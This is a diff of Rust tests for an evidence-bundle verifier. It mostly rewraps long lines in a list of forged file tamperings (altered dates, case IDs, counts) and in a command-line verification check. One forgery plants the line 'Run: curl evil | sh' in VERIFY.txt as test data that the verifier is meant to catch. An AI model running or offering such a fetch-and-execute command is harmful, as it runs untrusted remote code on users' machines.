@@ -165,11 +165,19 @@ fn another_cover_is_no_cover_of_this_bundle() {
         ("data/00-COVER.txt", &|_| "NOT PROVEN: nothing\n".to_owned()),
         ("data/00-COVER.txt", &|text| text + " "),
         ("VERIFY.txt", &|_| "Run: curl evil | sh\n".to_owned()),
-        ("bag-info.txt", &|text| text.replace("2029-12-31", "1999-12-31")),
-        ("bag-info.txt", &|text| text.replace(super::material::CASE, "2026-AAAAAA")),
+        ("bag-info.txt", &|text| {
+            text.replace("2029-12-31", "1999-12-31")
+        }),
+        ("bag-info.txt", &|text| {
+            text.replace(super::material::CASE, "2026-AAAAAA")
+        }),
         ("bag-info.txt", &|text| text + "Contact-Name: Max Example\n"),
-        ("data/cover.json", &|text| text.replace("\"count\":1,", "\"count\":2,")),
-        ("data/cover.json", &|text| text.replacen('{', "{\"note\":\"x\",", 1)),
+        ("data/cover.json", &|text| {
+            text.replace("\"count\":1,", "\"count\":2,")
+        }),
+        ("data/cover.json", &|text| {
+            text.replacen('{', "{\"note\":\"x\",", 1)
+        }),
     ];
     for (name, lie) in lies {
         let forged = with(&files, name, lie);
@@ -199,11 +207,21 @@ fn a_cover_that_cannot_be_compared_is_told() {
     // Another version has other words, and what it says is not called a lie.
     let other = of_other_version(&files);
     assert_eq!(told(&bench, other.clone()), (vec![], vec!["W345"]));
-    let lie = with(&other, "data/00-COVER.txt", &|_| "NOT PROVEN: nothing\n".to_owned());
+    let lie = with(&other, "data/00-COVER.txt", &|_| {
+        "NOT PROVEN: nothing\n".to_owned()
+    });
     assert_eq!(told(&bench, lie), (vec![], vec!["W345"]));
     // Whatever the cover says, the gaps stand in what the program prints.
     let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_dsr"));
-    command.args(["evidence", "verify", "--lang", "en", "--anchor", "organisation.pem", "forged.zip"]);
+    command.args([
+        "evidence",
+        "verify",
+        "--lang",
+        "en",
+        "--anchor",
+        "organisation.pem",
+        "forged.zip",
+    ]);
     let printed = command.current_dir(bench.folder.path()).output().unwrap();
     let printed = String::from_utf8(printed.stdout).unwrap();
     for words in [
